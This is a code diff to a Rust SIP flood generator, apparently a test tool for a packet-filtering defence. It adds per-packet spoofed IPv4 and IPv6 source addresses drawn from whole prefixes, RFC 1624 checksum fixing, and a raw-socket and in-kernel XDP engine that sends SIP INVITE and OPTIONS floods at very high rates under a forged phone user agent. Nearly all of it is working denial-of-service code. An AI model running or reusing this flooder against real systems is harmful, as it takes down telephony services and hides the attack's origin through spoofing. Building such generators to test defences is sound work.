@@ -12,13 +12,31 @@
 //!   per system call, qdisc bypassed; every frame is a socket buffer from
 //!   the start (the receiver's XDP runs on an skb), sources in turn and a
 //!   counter in the Call-ID, branch and tag.
+//!
+//! Sources are either a few addresses ([`FloodSpec::sources`], at most a
+//! /24's worth for the xdp engine) or, for a spoofed-source flood
+//! ([`FloodSpec::spoof`], [`Spoof`]), a random address of a whole prefix
+//! per packet: an IPv4 prefix (/8 to /32: a /12 is 1,048,576 addresses)
+//! or an IPv6 one (/8 to /128; with a prefix shorter than /64 the subnet
+//! bits are random too, so the sources spread over many /64s), the IPv6
+//! flood going in IPv6/UDP frames to an IPv6 destination. Both engines
+//! spoof: the packet engine picks each source in user space, the xdp
+//! engine in the kernel.
+//! Each frame's checksums follow what changed in it (RFC 1624 updates
+//! against the template, see [`super::csum`]): the IPv4 header checksum,
+//! and the UDP checksum of IPv6 frames (source and Call-ID, branch, tag
+//! letters); an IPv4 frame's UDP checksum is 0, as IPv4 allows.
 
 use std::ffi::CString;
-use std::net::{Ipv4Addr, SocketAddrV4};
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV4, SocketAddrV6};
 use std::time::{Duration, Instant};
 
 use anyhow::{bail, Context, Result};
+use ipnet::{IpNet, Ipv4Net, Ipv6Net};
 use serde::{Deserialize, Serialize};
+
+use super::csum::{self, Layout, Tracked};
+use crate::gen::Rng;
 
 /// The SIP request the flood sends.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
@@ -92,6 +110,93 @@ pub struct FloodSpec {
     pub max_packets: u64,
     /// Frames per `sendmmsg` call.
     pub batch: usize,
+    /// A spoofed-source flood: every packet from a random address of this
+    /// prefix (then `sources` is not used). `None`: the `sources`.
+    pub spoof: Option<Spoof>,
+}
+
+impl Default for FloodSpec {
+    /// No interface, no destination and no sources yet; otherwise the
+    /// `flood` binary's defaults.
+    fn default() -> FloodSpec {
+        FloodSpec {
+            engine: Engine::Xdp,
+            iface: String::new(),
+            dst_mac: [0; 6],
+            dst: SocketAddrV4::new(Ipv4Addr::UNSPECIFIED, 5060),
+            sources: Vec::new(),
+            source_port: 5062,
+            methods: vec![FloodMethod::Invite],
+            user_agent: "Grandstream GXP2170 1.0.11.23".to_string(),
+            rate: 0,
+            duration: Duration::from_secs(10),
+            max_packets: 200_000_000,
+            batch: 64,
+            spoof: None,
+        }
+    }
+}
+
+impl FloodSpec {
+    /// Where the packets go: [`FloodSpec::dst`], or an IPv6 spoof's
+    /// destination.
+    pub fn destination(&self) -> SocketAddr {
+        match self.spoof {
+            Some(Spoof::V6 { dst, .. }) => dst.into(),
+            _ => self.dst.into(),
+        }
+    }
+}
+
+/// A spoofed-source flood: each packet comes from a random address of a
+/// prefix (every bit below the prefix random).
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Spoof {
+    /// Sources in an IPv4 prefix (/8 to /32); IPv4 packets to
+    /// [`FloodSpec::dst`].
+    V4(Ipv4Net),
+    /// Sources in an IPv6 prefix (/8 to /128); IPv6 packets to `dst`
+    /// ([`FloodSpec::dst`] is not used).
+    V6 { net: Ipv6Net, dst: SocketAddrV6 },
+}
+
+impl Spoof {
+    pub fn net(&self) -> IpNet {
+        match *self {
+            Spoof::V4(n) => n.into(),
+            Spoof::V6 { net, .. } => net.into(),
+        }
+    }
+
+    /// The prefix lengths the flood supports.
+    pub fn check(&self) -> Result<()> {
+        let (len, max) = match self {
+            Spoof::V4(n) => (n.prefix_len(), 32),
+            Spoof::V6 { net, .. } => (net.prefix_len(), 128),
+        };
+        if !(8..=max).contains(&len) {
+            bail!(
+                "spoofed sources {}: the prefix length must be 8 to {max}",
+                self.net()
+            );
+        }
+        Ok(())
+    }
+
+    /// A random address of the prefix.
+    pub fn pick(&self, rng: &mut Rng) -> IpAddr {
+        match *self {
+            Spoof::V4(n) => {
+                let host = !u32::from(n.netmask());
+                Ipv4Addr::from(u32::from(n.network()) | (rng.next() as u32 & host)).into()
+            }
+            Spoof::V6 { net, .. } => {
+                let host = !u128::from(net.netmask());
+                let r = (u128::from(rng.next()) << 64) | u128::from(rng.next());
+                Ipv6Addr::from(u128::from(net.network()) | (r & host)).into()
+            }
+        }
+    }
 }
 
 /// What was sent.
@@ -108,10 +213,12 @@ pub struct FloodReport {
 const COUNTER_DIGITS: usize = 16;
 const MARK: &[u8; COUNTER_DIGITS] = b"################";
 
-/// One (source, method) frame with the offsets of its counter fields.
+/// One (source, method) frame with the offsets of its counter fields and
+/// the checksums that follow them (and the source, when spoofed).
 struct Template {
     frame: Vec<u8>,
     counters: Vec<usize>,
+    tracked: Vec<Tracked>,
 }
 
 /// The host name flood requests carry in Via, From, Contact and Call-ID
@@ -120,8 +227,16 @@ const ATTACKER_HOST: &str = "attacker.invalid";
 
 /// The SIP payload of one flood request; `#` x16 marks the counter fields.
 pub fn sip_payload(method: FloodMethod, sport: u16, dst: SocketAddrV4, ua: &str) -> Vec<u8> {
+    sip_payload_to(method, sport, dst.into(), ua)
+}
+
+/// [`sip_payload`] to an IPv4 or IPv6 destination (`[addr]` in the URIs).
+pub fn sip_payload_to(method: FloodMethod, sport: u16, dst: SocketAddr, ua: &str) -> Vec<u8> {
     let m = std::str::from_utf8(MARK).expect("ascii");
-    let dip = dst.ip();
+    let dip = match dst.ip() {
+        IpAddr::V4(a) => a.to_string(),
+        IpAddr::V6(a) => format!("[{a}]"),
+    };
     let h = ATTACKER_HOST;
     let (ruri, to, extra, body) = match method {
         FloodMethod::Invite => (
@@ -177,10 +292,7 @@ pub fn udp_frame(
     dst: SocketAddrV4,
     payload: &[u8],
 ) -> Vec<u8> {
-    let mut f = Vec::with_capacity(42 + payload.len());
-    f.extend_from_slice(&dst_mac);
-    f.extend_from_slice(&src_mac);
-    f.extend_from_slice(&0x0800u16.to_be_bytes());
+    let mut f = ethernet(src_mac, dst_mac, 0x0800, 42 + payload.len());
     let total = (20 + 8 + payload.len()) as u16;
     let mut ip = [0u8; 20];
     ip[0] = 0x45;
@@ -190,55 +302,127 @@ pub fn udp_frame(
     ip[9] = 17;
     ip[12..16].copy_from_slice(&src.ip().octets());
     ip[16..20].copy_from_slice(&dst.ip().octets());
-    let sum = ip_checksum(&ip);
+    let sum = csum::checksum(&ip);
     ip[10..12].copy_from_slice(&sum.to_be_bytes());
     f.extend_from_slice(&ip);
-    f.extend_from_slice(&src.port().to_be_bytes());
-    f.extend_from_slice(&dst.port().to_be_bytes());
-    f.extend_from_slice(&(8 + payload.len() as u16).to_be_bytes());
-    f.extend_from_slice(&[0, 0]);
+    f.extend_from_slice(&udp_header(src.port(), dst.port(), payload.len()));
     f.extend_from_slice(payload);
     f
 }
 
-fn ip_checksum(h: &[u8]) -> u16 {
-    let mut sum: u32 = h
-        .chunks(2)
-        .map(|c| u32::from(u16::from_be_bytes([c[0], c[1]])))
-        .sum();
-    while sum > 0xffff {
-        sum = (sum & 0xffff) + (sum >> 16);
-    }
-    !(sum as u16)
+/// A complete Ethernet/IPv6/UDP frame, UDP checksum set (IPv6 requires
+/// one).
+pub fn udp6_frame(
+    src_mac: [u8; 6],
+    dst_mac: [u8; 6],
+    src: SocketAddrV6,
+    dst: SocketAddrV6,
+    payload: &[u8],
+) -> Vec<u8> {
+    let mut f = ethernet(src_mac, dst_mac, 0x86dd, 62 + payload.len());
+    let udp_len = (8 + payload.len()) as u16;
+    f.extend_from_slice(&[0x60, 0, 0, 0]);
+    f.extend_from_slice(&udp_len.to_be_bytes());
+    f.extend_from_slice(&[17, 64]); // next header UDP, hop limit
+    f.extend_from_slice(&src.ip().octets());
+    f.extend_from_slice(&dst.ip().octets());
+    let mut segment = udp_header(src.port(), dst.port(), payload.len()).to_vec();
+    segment.extend_from_slice(payload);
+    let sum = csum::udp6(&src.ip().octets(), &dst.ip().octets(), &segment);
+    segment[6..8].copy_from_slice(&sum.to_be_bytes());
+    f.extend_from_slice(&segment);
+    f
 }
 
-fn template(spec: &FloodSpec, src_mac: [u8; 6], method: FloodMethod, src: Ipv4Addr) -> Template {
-    let payload = sip_payload(method, spec.source_port, spec.dst, &spec.user_agent);
-    let frame = udp_frame(
-        src_mac,
-        spec.dst_mac,
-        SocketAddrV4::new(src, spec.source_port),
-        spec.dst,
-        &payload,
-    );
-    let counters = frame
+/// An Ethernet header, in a buffer for a frame of `capacity` bytes.
+fn ethernet(src_mac: [u8; 6], dst_mac: [u8; 6], ethertype: u16, capacity: usize) -> Vec<u8> {
+    let mut f = Vec::with_capacity(capacity);
+    f.extend_from_slice(&dst_mac);
+    f.extend_from_slice(&src_mac);
+    f.extend_from_slice(&ethertype.to_be_bytes());
+    f
+}
+
+/// A UDP header, checksum 0.
+fn udp_header(sport: u16, dport: u16, payload_len: usize) -> [u8; 8] {
+    let mut h = [0u8; 8];
+    h[0..2].copy_from_slice(&sport.to_be_bytes());
+    h[2..4].copy_from_slice(&dport.to_be_bytes());
+    h[4..6].copy_from_slice(&((8 + payload_len) as u16).to_be_bytes());
+    h
+}
+
+/// The frame for one method from `src` (IPv4 or IPv6, as the
+/// destination), its counter fields marked, its checksums tracking the
+/// counters and, in a spoofed flood, the source address.
+fn template(spec: &FloodSpec, src_mac: [u8; 6], method: FloodMethod, src: IpAddr) -> Template {
+    let port = spec.source_port;
+    let dst = spec.destination();
+    let payload = sip_payload_to(method, port, dst, &spec.user_agent);
+    let frame = match (src, dst) {
+        (IpAddr::V4(s), SocketAddr::V4(d)) => udp_frame(
+            src_mac,
+            spec.dst_mac,
+            SocketAddrV4::new(s, port),
+            d,
+            &payload,
+        ),
+        (IpAddr::V6(s), SocketAddr::V6(d)) => {
+            let s = SocketAddrV6::new(s, port, 0, 0);
+            udp6_frame(src_mac, spec.dst_mac, s, d, &payload)
+        }
+        _ => unreachable!("sources have the destination's IP version"),
+    };
+    let counters: Vec<usize> = frame
         .windows(COUNTER_DIGITS)
         .enumerate()
         .filter(|(_, w)| *w == MARK)
         .map(|(i, _)| i)
         .collect();
-    Template { frame, counters }
+    let mut spans: Vec<_> = counters.iter().map(|&c| c..c + COUNTER_DIGITS).collect();
+    if spec.spoof.is_some() {
+        spans.extend(Layout::of(&frame).map(|l| l.src));
+    }
+    let tracked = csum::tracked(&frame, &spans);
+    Template {
+        frame,
+        counters,
+        tracked,
+    }
 }
 
-/// One template per (method, source), methods after each round of sources.
+/// One template per (method, source), methods after each round of
+/// sources; in a spoofed flood one per method, from the prefix's first
+/// address.
 fn templates(spec: &FloodSpec, src_mac: [u8; 6]) -> Vec<Template> {
+    let sources: Vec<IpAddr> = match &spec.spoof {
+        Some(s) => vec![s.net().network()],
+        None => spec.sources.iter().map(|&a| a.into()).collect(),
+    };
     let mut out = Vec::new();
     for &method in &spec.methods {
-        for &src in &spec.sources {
+        for &src in &sources {
             out.push(template(spec, src_mac, method, src));
         }
     }
     out
+}
+
+/// Packet `n` from template `t` into `buf`: its counter, its source (a
+/// spoofed one, or the template's), its checksums.
+fn fill(buf: &mut [u8], t: &Template, n: u64, src: Option<IpAddr>) {
+    let buf = &mut buf[..t.frame.len()];
+    buf.copy_from_slice(&t.frame);
+    write_counter(buf, &t.counters, n);
+    if let (Some(a), Some(l)) = (src, Layout::of(buf)) {
+        match a {
+            IpAddr::V4(a) => buf[l.src].copy_from_slice(&a.octets()),
+            IpAddr::V6(a) => buf[l.src].copy_from_slice(&a.octets()),
+        }
+    }
+    for c in &t.tracked {
+        c.apply(buf);
+    }
 }
 
 fn write_counter(buf: &mut [u8], at: &[usize], n: u64) {
@@ -252,14 +436,15 @@ fn write_counter(buf: &mut [u8], at: &[usize], n: u64) {
     }
 }
 
-/// An `AF_PACKET` socket bound to one interface.
-struct PacketSocket {
+/// An `AF_PACKET` socket bound to one interface (send only).
+pub struct PacketSocket {
     fd: libc::c_int,
     mac: [u8; 6],
 }
 
 impl PacketSocket {
-    fn open(iface: &str) -> Result<PacketSocket> {
+    /// A socket on `iface` of the calling thread's namespace.
+    pub fn open(iface: &str) -> Result<PacketSocket> {
         let name = CString::new(iface)?;
         // SAFETY: plain socket calls on an fd this struct owns; the structs
         // passed are fully initialised.
@@ -325,6 +510,22 @@ impl PacketSocket {
         }
     }
 
+    /// The interface's MAC address.
+    pub fn mac(&self) -> [u8; 6] {
+        self.mac
+    }
+
+    /// Sends one complete frame.
+    pub fn send(&self, frame: &[u8]) -> std::io::Result<()> {
+        // SAFETY: a bound socket; `frame` outlives the call.
+        let r = unsafe { libc::send(self.fd, frame.as_ptr().cast(), frame.len(), 0) };
+        if r < 0 {
+            Err(std::io::Error::last_os_error())
+        } else {
+            Ok(())
+        }
+    }
+
     /// Sends `frames` (each `lens[i]` long) with one `sendmmsg`; how many
     /// the kernel took.
     fn send_batch(&self, bufs: &mut [Vec<u8>], lens: &[usize]) -> std::io::Result<usize> {
@@ -362,8 +563,15 @@ impl Drop for PacketSocket {
 
 /// Runs the flood until its duration, its packet count or `stop()` says so.
 pub fn run(spec: &FloodSpec, stop: impl Fn() -> bool + Sync) -> Result<FloodReport> {
-    if spec.sources.is_empty() || spec.methods.is_empty() {
-        bail!("a flood needs at least one source and one method");
+    if spec.methods.is_empty() {
+        bail!("a flood needs at least one method");
+    }
+    match &spec.spoof {
+        Some(s) => s.check()?,
+        None if spec.sources.is_empty() => {
+            bail!("a flood needs at least one source (or spoofed ones)")
+        }
+        None => {}
     }
     match spec.engine {
         Engine::Packet => run_packet(spec, stop),
@@ -371,9 +579,60 @@ pub fn run(spec: &FloodSpec, stop: impl Fn() -> bool + Sync) -> Result<FloodRepo
     }
 }
 
+/// One loaded generator per method, with its template. The program writes
+/// a random source: below the spoofed prefix, or the last octet of the
+/// `sources`, which must then be consecutive within one /24.
+fn generators(spec: &FloodSpec) -> Result<Vec<(super::xdpgen::XdpGen, Template)>> {
+    use super::xdpgen::{Randomise, XdpGen};
+    let (base, mut r) = match &spec.spoof {
+        Some(s) => {
+            let r = Randomise {
+                prefix_len: Some(s.net().prefix_len()),
+                ..Randomise::default()
+            };
+            (s.net().network(), r)
+        }
+        None => {
+            let first = spec.sources[0];
+            let o = first.octets();
+            let consecutive = spec
+                .sources
+                .iter()
+                .enumerate()
+                .all(|(i, s)| u32::from(*s) == u32::from(first) + i as u32);
+            if !consecutive || u32::from(o[3]) + spec.sources.len() as u32 > 256 {
+                bail!("the xdp engine needs consecutive sources within one /24");
+            }
+            let r = Randomise {
+                first_octet: o[3],
+                count: spec.sources.len() as u8,
+                ..Randomise::default()
+            };
+            (Ipv4Addr::new(o[0], o[1], o[2], 0).into(), r)
+        }
+    };
+    // The flood rewrites the whole counter field per call; the program
+    // keeps an IPv6 frame's UDP checksum right over all of it.
+    r.field_len = COUNTER_DIGITS;
+    let mac = PacketSocket::open(&spec.iface)
+        .context("reading the interface's MAC address")?
+        .mac;
+    let mut gens = Vec::new();
+    for &method in &spec.methods {
+        let t = template(spec, mac, method, base);
+        r.letters_at.clone_from(&t.counters);
+        let g = XdpGen::new(&spec.iface, &t.frame, &r)
+            .context("the XDP generator (needs Linux 5.18+)")?;
+        gens.push((g, t));
+    }
+    Ok(gens)
+}
+
 /// The in-kernel generator: one program per method; frames go out in
 /// chunks of `repeat` per system call (each chunk with a new counter, each
-/// frame with a random source and random letters, see `xdpgen`).
+/// frame with a random source and random letters, see `xdpgen`; the
+/// program also fixes the checksums, so the chunk's frame is handed over
+/// with the template's).
 ///
 /// A live-frames call has a fixed cost of about one RCU grace period (tens
 /// of ms here: the kernel tears its page pool down at the end of each call)
@@ -382,35 +641,9 @@ pub fn run(spec: &FloodSpec, stop: impl Fn() -> bool + Sync) -> Result<FloodRepo
 /// 65,536 frames at full speed): while some wait for their call to return,
 /// others send.
 fn run_xdp(spec: &FloodSpec, stop: impl Fn() -> bool + Sync) -> Result<FloodReport> {
-    use super::xdpgen::{Randomise, XdpGen};
     use std::sync::atomic::{AtomicU64, Ordering};
     const THREADS: u64 = 4;
-    let first = spec.sources[0];
-    let o = first.octets();
-    let consecutive = spec
-        .sources
-        .iter()
-        .enumerate()
-        .all(|(i, s)| u32::from(*s) == u32::from(first) + i as u32);
-    if !consecutive || u32::from(o[3]) + spec.sources.len() as u32 > 256 {
-        bail!("the xdp engine needs consecutive sources within one /24");
-    }
-    let mac = PacketSocket::open(&spec.iface)
-        .context("reading the interface's MAC address")?
-        .mac;
-    let base = Ipv4Addr::new(o[0], o[1], o[2], 0);
-    let mut gens = Vec::new();
-    for &method in &spec.methods {
-        let t = template(spec, mac, method, base);
-        let r = Randomise {
-            first_octet: o[3],
-            count: spec.sources.len() as u8,
-            letters_at: t.counters.clone(),
-        };
-        let g = XdpGen::new(&spec.iface, &t.frame, &r)
-            .context("the XDP generator (needs Linux 5.18+)")?;
-        gens.push((g, t));
-    }
+    let gens = generators(spec)?;
     let chunk = if spec.rate == 0 {
         65_536
     } else {
@@ -476,7 +709,16 @@ fn run_xdp(spec: &FloodSpec, stop: impl Fn() -> bool + Sync) -> Result<FloodRepo
     })
 }
 
-/// `AF_PACKET` + `sendmmsg`.
+/// A different random sequence per run.
+fn seed() -> u64 {
+    let t = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap_or_default();
+    (t.as_nanos() as u64) ^ (u64::from(std::process::id()) << 40)
+}
+
+/// `AF_PACKET` + `sendmmsg` (a spoofed source per packet picked here, its
+/// checksums fixed here).
 fn run_packet(spec: &FloodSpec, stop: impl Fn() -> bool) -> Result<FloodReport> {
     let sock = PacketSocket::open(&spec.iface).context("opening the packet socket")?;
     let tpl = templates(spec, sock.mac);
@@ -489,6 +731,7 @@ fn run_packet(spec: &FloodSpec, stop: impl Fn() -> bool) -> Result<FloodReport> 
     };
     let mut bufs: Vec<Vec<u8>> = (0..batch).map(|_| vec![0u8; max_len]).collect();
     let mut lens = vec![0usize; batch];
+    let mut rng = Rng::new(seed());
     let start = Instant::now();
     let mut sent = 0u64;
     let mut n = 0u64;
@@ -497,8 +740,8 @@ fn run_packet(spec: &FloodSpec, stop: impl Fn() -> bool) -> Result<FloodReport> 
         let want = batch.min((spec.max_packets - sent) as usize);
         for j in 0..want {
             let t = &tpl[((n + j as u64) % tpl.len() as u64) as usize];
-            bufs[j][..t.frame.len()].copy_from_slice(&t.frame);
-            write_counter(&mut bufs[j], &t.counters, n + j as u64);
+            let src = spec.spoof.map(|s| s.pick(&mut rng));
+            fill(&mut bufs[j], t, n + j as u64, src);
             lens[j] = t.frame.len();
         }
         match sock.send_batch(&mut bufs, &lens[..want]) {
@@ -575,7 +818,7 @@ mod tests {
                 dst,
                 &p,
             );
-            assert_eq!(ip_checksum(&f[14..34]), 0, "header checksum verifies");
+            assert_eq!(csum::checksum(&f[14..34]), 0, "header checksum verifies");
             assert_eq!(usize::from(u16::from_be_bytes([f[38], f[39]])), 8 + p.len());
         }
     }
@@ -595,8 +838,13 @@ mod tests {
             duration: Duration::from_secs(1),
             max_packets: 1,
             batch: 1,
+            spoof: None,
         };
         let t = &templates(&spec, [0; 6])[0];
+        assert!(
+            t.tracked.is_empty(),
+            "IPv4 from a fixed source: nothing to fix"
+        );
         assert_eq!(t.counters.len(), 3, "branch, tag and Call-ID");
         let mut b = t.frame.clone();
         write_counter(&mut b, &t.counters, 0xabc);
@@ -606,6 +854,92 @@ mod tests {
             "{s}"
         );
         assert!(!s.contains('#'));
+    }
+
+    fn spoofed(spoof: Spoof) -> FloodSpec {
+        FloodSpec {
+            engine: Engine::Packet,
+            dst: SocketAddrV4::new(Ipv4Addr::new(198, 51, 100, 1), 5060),
+            methods: vec![FloodMethod::Invite, FloodMethod::Options],
+            spoof: Some(spoof),
+            ..FloodSpec::default()
+        }
+    }
+
+    /// The packet engine's frames: a source in the prefix and checksums a
+    /// full recomputation agrees with.
+    #[test]
+    fn spoofed_frames_are_valid() {
+        let v4 = Spoof::V4("10.64.0.0/12".parse().expect("net"));
+        let v6 = Spoof::V6 {
+            net: "2001:db8:5::/48".parse().expect("net"),
+            dst: "[2001:db8::1]:5060".parse().expect("dst"),
+        };
+        let mut rng = Rng::new(7);
+        for spoof in [v4, v6] {
+            let spec = spoofed(spoof);
+            let tpl = templates(&spec, [2, 0, 0, 0, 0, 1]);
+            assert_eq!(tpl.len(), 2, "one per method");
+            for n in 0..2000u64 {
+                let t = &tpl[n as usize % 2];
+                let mut b = vec![0u8; t.frame.len() + 10];
+                let src = spoof.pick(&mut rng);
+                assert!(spoof.net().contains(&src), "{src}");
+                fill(&mut b, t, n, Some(src));
+                let f = &b[..t.frame.len()];
+                let digits = format!("{n:016x}");
+                assert!(t
+                    .counters
+                    .iter()
+                    .all(|&c| f[c..c + 16] == *digits.as_bytes()));
+                match src {
+                    IpAddr::V4(a) => {
+                        assert_eq!(f[26..30], a.octets());
+                        assert_eq!(csum::checksum(&f[14..34]), 0, "header checksum");
+                        assert_eq!(f[40..42], [0, 0], "no UDP checksum");
+                    }
+                    IpAddr::V6(a) => {
+                        assert_eq!(f[22..38], a.octets());
+                        let mut seg = f[54..].to_vec();
+                        seg[6..8].copy_from_slice(&[0, 0]);
+                        let full =
+                            csum::udp6(&a.octets(), &f[38..54].try_into().expect("dst"), &seg);
+                        assert_eq!(u16::from_be_bytes([f[60], f[61]]), full, "UDP checksum");
+                    }
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn spoofed_prefixes_are_checked_and_spread() {
+        let too_wide = Spoof::V4("10.0.0.0/7".parse().expect("net"));
+        assert!(too_wide.check().is_err());
+        let v6 = Spoof::V6 {
+            net: "2001:db8:5::/48".parse().expect("net"),
+            dst: "[2001:db8::1]:5060".parse().expect("dst"),
+        };
+        v6.check().expect("a /48");
+        assert_eq!(
+            spoofed(v6).destination(),
+            "[2001:db8::1]:5060".parse().expect("dst")
+        );
+        let mut rng = Rng::new(1);
+        let subnets: std::collections::HashSet<u64> = (0..1000)
+            .map(|_| match v6.pick(&mut rng) {
+                IpAddr::V6(a) => (u128::from(a) >> 64) as u64,
+                IpAddr::V4(_) => unreachable!(),
+            })
+            .collect();
+        assert!(subnets.len() > 950, "{} /64s", subnets.len());
+        let p = String::from_utf8(sip_payload_to(
+            FloodMethod::Options,
+            5062,
+            "[2001:db8::1]:5060".parse().expect("dst"),
+            "x",
+        ))
+        .expect("ascii");
+        assert!(p.starts_with("OPTIONS sip:[2001:db8::1] SIP/2.0"), "{p}");
     }
 
     #[test]
